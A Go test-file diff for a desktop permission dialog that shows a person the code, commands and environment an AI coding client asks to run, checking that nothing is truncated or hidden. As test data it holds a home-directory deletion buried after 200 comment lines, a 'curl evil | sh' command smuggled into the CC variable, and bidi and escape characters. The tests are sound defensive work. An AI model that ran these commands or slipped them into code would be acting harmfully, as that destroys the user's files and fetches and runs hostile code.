@@ -104,19 +104,44 @@ func (h *askHarness) button(text string) *widget.Button {
 	return b
 }
 
-// shown is the text of every label and text grid in the dialog.
-func (h *askHarness) shown() (labels, grids []string) {
+// shown is the text of every label in the dialog, and the text of every
+// list (the code, the environment) as its rows show it, one per line.
+func (h *askHarness) shown() (labels, views []string) {
 	h.onMain(func() {
 		walkOverlay(h.w.win.Canvas(), func(o fyne.CanvasObject) {
 			switch v := o.(type) {
 			case *widget.Label:
 				labels = append(labels, v.Text)
-			case *widget.TextGrid:
-				grids = append(grids, v.Text())
+			case *widget.List:
+				var rows []string
+				for i := range v.Length() {
+					l := widget.NewLabel("")
+					v.UpdateItem(i, l)
+					rows = append(rows, l.Text)
+				}
+				views = append(views, strings.Join(rows, "\n"))
 			}
 		})
 	})
-	return labels, grids
+	return labels, views
+}
+
+// unwrap turns numbered display rows back into the text they show: a row
+// whose gutter holds "+" goes on with the line before it.
+func unwrap(t *testing.T, view string) string {
+	t.Helper()
+	var b strings.Builder
+	for i, row := range strings.Split(view, "\n") {
+		if len(row) < askGutter {
+			t.Fatalf("row %d %q has no gutter", i, row)
+		}
+		gutter, text := strings.TrimSpace(row[:askGutter]), row[askGutter:]
+		if gutter != "+" && i > 0 {
+			b.WriteByte('\n')
+		}
+		b.WriteString(text)
+	}
+	return b.String()
 }
 
 // tap taps the button labelled text once it is enabled, and returns the answer.
@@ -157,14 +182,29 @@ func TestAskReturnsThePersonsAnswer(t *testing.T) {
 // TestAskShowsAllTheCode is issue 11 item 4: the dialog cut the code at
 // 4000 bytes, and "Allow once" ran the part the person never saw.
 func TestAskShowsAllTheCode(t *testing.T) {
-	code := strings.Repeat("// a harmless looking comment line\n", 200) + "os.RemoveAll(os.Getenv(\"HOME\"))\n"
+	long := "var s = \"" + strings.Repeat("0123456789", 30) + "\"; os.RemoveAll(os.Getenv(\"HOME\"))"
+	code := strings.Repeat("// a harmless looking comment line\n", 200) + long + "\n"
 	h := startAsk(t, app.PermissionRequest{Client: "claude-code", Session: "conn-1", Kind: "evaluate", Detail: code})
-	labels, grids := h.shown()
-	if !contains(grids, code) {
-		t.Fatalf("no text grid holds all %d bytes of the code (grids of %v bytes)", len(code), gridSizes(grids))
+	labels, views := h.shown()
+	if len(views) != 1 || unwrap(t, views[0])+"\n" != code {
+		t.Fatalf("the dialog does not show all %d bytes of the code", len(code))
 	}
-	if !containsPart(labels, "6.9 KiB, 201 lines") {
+	if !containsPart(labels, "7.2 KiB, 201 lines") {
 		t.Fatalf("the dialog does not say how much code there is: %q", labels)
+	}
+}
+
+// TestAskShowsBigCodeQuickly: the most the dialog offers to allow, in one
+// line or in many, shows in moments (a text grid took minutes, frozen).
+func TestAskShowsBigCodeQuickly(t *testing.T) {
+	for _, code := range []string{strings.Repeat("x", maxAskBytes-64), strings.Repeat("x := 1 + 2 // comment\n", (maxAskBytes-64)/22)} {
+		start := time.Now()
+		h := startAsk(t, app.PermissionRequest{Client: "c", Session: "conn-1", Kind: "evaluate", Detail: code})
+		h.onMain(func() { h.w.win.Canvas().Capture() })
+		if took := time.Since(start); took > 20*time.Second {
+			t.Errorf("%d bytes in %d lines took %v to show", len(code), strings.Count(code, "\n")+1, took)
+		}
+		h.tap("Deny")
 	}
 }
 
@@ -223,8 +263,8 @@ func TestAskArmsAllowAfterAMoment(t *testing.T) {
 func TestAskShowsTheEnvironment(t *testing.T) {
 	h := startAsk(t, app.PermissionRequest{Client: "c", Session: "conn-1", Kind: "run", Detail: "go build ./...",
 		Selection: "cgo", Env: []string{"CC=sh -c 'curl evil | sh' #", "CGO_ENABLED=1"}, Tags: []string{"evil"}, Dir: "pkg"})
-	labels, grids := h.shown()
-	all := strings.Join(grids, "\n")
+	labels, views := h.shown()
+	all := strings.Join(views, "\n")
 	for _, want := range []string{"CC=sh -c 'curl evil | sh' #", "CGO_ENABLED=1", "tags  evil", "in    pkg", "go build ./..."} {
 		if !strings.Contains(all, want) {
 			t.Errorf("the dialog does not show %q; it shows %q", want, all)
@@ -240,8 +280,8 @@ func TestAskShowsTheEnvironment(t *testing.T) {
 func TestAskShowsInvisibleCharacters(t *testing.T) {
 	code := "ok := true // \u202e } \u2066if ok {\u2069\nfmt.Println(\"\x1b[2K\rfine\")\n\xff"
 	h := startAsk(t, app.PermissionRequest{Client: "c", Session: "conn-1", Kind: "evaluate", Detail: code})
-	labels, grids := h.shown()
-	all := strings.Join(grids, "\n")
+	labels, views := h.shown()
+	all := strings.Join(views, "\n")
 	for _, want := range []string{"«U+202E»", "«U+2066»", "«U+2069»", "«ESC»[2K«CR»fine", "«0xFF»"} {
 		if !strings.Contains(all, want) {
 			t.Errorf("%q is not shown: %q", want, all)
@@ -262,23 +302,6 @@ func TestAskDeniesWhenTheCallerGivesUp(t *testing.T) {
 	}
 }
 
-func contains(list []string, s string) bool {
-	for _, x := range list {
-		if x == s {
-			return true
-		}
-	}
-	return false
-}
-
 func containsPart(list []string, part string) bool {
 	return strings.Contains(strings.Join(list, "\n"), part)
-}
-
-func gridSizes(grids []string) []int {
-	var n []int
-	for _, g := range grids {
-		n = append(n, len(g))
-	}
-	return n
 }
